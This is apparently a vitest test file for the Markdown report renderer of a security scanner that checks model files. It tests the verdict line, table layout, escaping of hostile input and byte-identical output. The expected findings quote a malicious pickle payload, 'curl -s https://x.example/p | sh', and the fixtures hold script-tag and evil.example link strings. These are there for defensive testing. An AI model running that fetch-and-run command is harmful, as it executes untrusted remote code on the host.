import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/core/report.js';
import { escapeMarkdown, renderMarkdown } from '../../src/report/markdown.js';
import { cleanReport, hostileReport, SAMPLE_RULES, sampleReport } from './sample-report.js';

/** Splits a GFM table row into cells the way GitHub does: `\|` does not end a cell, `\\|` does. */
function cells(row: string): string[] {
  const result: string[] = [];
  let current = '';
  for (let index = 1; index < row.length - 1; index += 1) {
    const char = row[index];
    if (char === '\\') {
      current += char + row[index + 1];
      index += 1;
    } else if (char === '|') {
      result.push(current.trim());
      current = '';
    } else current += char;
  }
  result.push(current.trim());
  return result;
}

function section(markdown: string, heading: string): string[] {
  const lines = markdown.split('\n');
  const start = lines.indexOf(heading);
  const end = lines.findIndex((line, index) => index > start && /^#{1,2} /.test(line));
  return lines.slice(start + 1, end < 0 ? undefined : end);
}

describe('Markdown renderer', () => {
  it('has a title, a verdict line, and summary, findings and files tables', () => {
    const md = renderMarkdown(sampleReport(), SAMPLE_RULES);
    expect(md.startsWith('# Assay report: models/bert-tiny\n\n**Verdict: FAIL** ❌ (fails on high and above)\n')).toBe(
      true,
    );
    expect(section(md, '## Summary')).toContain('| critical | 1 |');
    expect(section(md, '## Summary')).toContain('| suppressed | 1 |');
    const findings = section(md, '## Findings').filter((line) => line.startsWith('|'));
    expect(findings[0]).toBe('| Severity | Rule | File | Location | Message |');
    expect(findings).toHaveLength(2 + sampleReport().findings.length);
    expect(findings).toContain(
      "| **critical** | security/pickle-dangerous-global | pytorch\\_model.bin | in archive/data.pkl at offset 439 (0x1b7) | Loading imports posix.system and calls it with ('curl -s https://x.example/p \\| sh',): runs a shell command. (in archive/data.pkl) |",
    );
    const files = section(md, '## Files').filter((line) => line.startsWith('|'));
    expect(files).toHaveLength(2 + 5);
    expect(files).toContain(
      '| config.json | json | 612 B | 0f3a9c0f3a9c0f3a9c0f3a9c0f3a9c0f3a9c0f3a9c0f3a9c0f3a9c0f3a9c0f3a |',
    );
    expect(md.endsWith('|\n')).toBe(true);
  });

  it('says pass and no findings for a clean report', () => {
    const md = renderMarkdown(cleanReport(), SAMPLE_RULES);
    expect(md).toContain('**Verdict: PASS** ✅');
    expect(section(md, '## Findings')).toContain('No findings.');
  });

  it('escapes pipes, backticks, links and HTML in cells so every row keeps its five cells', () => {
    const md = renderMarkdown(hostileReport(), SAMPLE_RULES);
    const rows = section(md, '## Findings').filter((line) => line.startsWith('| ') && !line.startsWith('| ---'));
    for (const row of rows) expect(cells(row)).toHaveLength(5);

    expect(md).not.toMatch(/<script/i);
    expect(md).not.toMatch(/<img/i);
    expect(md).toContain('&lt;script&gt;alert("name")&lt;/script&gt;.pkl');
    expect(md).toContain(
      'Pipes \\| and \\`backticks\\` and \\[a link\\](https://evil.example/) and !\\[img\\](https://evil.example/i.png) \\*bold\\*',
    );
    expect(md).toContain('suppressed: &lt;b&gt;accepted&lt;/b&gt; \\| by \\`me\\`');
    // No unescaped backtick anywhere: none can open a code span.
    expect(md.replace(/\\\\/g, '').match(/(?<!\\)`/g)).toBeNull();
    // A newline inside a message cannot end the row.
    expect(md).toContain('and a newline');
    expect(md).not.toContain('\u202e');
  });

  it('escapes a backslash before a pipe so the pipe stays escaped', () => {
    expect(escapeMarkdown('a\\|b')).toBe('a\\\\\\|b');
    expect(cells(`| ${escapeMarkdown('a\\|b')} | x |`)).toHaveLength(2);
    expect(escapeMarkdown('x_y*z`w[1]~<b>')).toBe('x\\_y\\*z\\`w\\[1\\]\\~&lt;b&gt;');
  });

  it('is byte-identical for the same report, whatever the order of its findings and files', () => {
    const report = sampleReport();
    const shuffled: Report = {
      ...report,
      findings: [...report.findings].reverse(),
      files: [...report.files].reverse(),
    };
    expect(renderMarkdown(shuffled, SAMPLE_RULES)).toBe(renderMarkdown(report, SAMPLE_RULES));
  });
});
